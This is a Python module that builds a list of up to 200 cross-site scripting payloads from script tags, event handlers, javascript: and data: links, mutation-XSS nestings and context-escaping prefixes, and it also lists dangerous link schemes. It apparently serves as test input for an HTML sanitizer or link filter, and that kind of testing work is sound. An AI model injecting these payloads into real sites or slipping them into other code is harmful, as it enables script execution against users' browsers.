"""Two hundred ways to have a page run what somebody typed into it; made of what acts and of what lets it out."""

from __future__ import annotations

from html import escape
from itertools import product
from urllib.parse import quote

ACTS = (
    "<script>document.title='x'</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example>",
    "<style>*{background:url(//x.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "{{ ''.__class__.__mro__ }}{% raw %}",
)
LETS_OUT = ("{}", '">{}', "'>{}", "</textarea>{}", "</title>{}", "--><!-- {}", "]]>{}")
WRITTEN = (str, str.upper, escape, quote)
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [
            *(way.format(act) for act, way in product(ACTS, LETS_OUT)),
            *(write(act) for act, write in product(ACTS, WRITTEN[1:])),
        ]
    )
)[:200]
SCHEMES = (
    *("javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "\x01javascript:"),
    *("vbscript:", "data:text/html,"),
)
LINKS = tuple(
    f"{scheme}{act}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        " javascript:",
        "java\tscript:",
        "vbscript:",
        "data:text/html,",
        "\x01javascript:",
    )
    for act in ("alert(1)", "//x.example/%0aalert(1)", "<script>alert(1)</script>")
)
"""Where a link may not lead."""
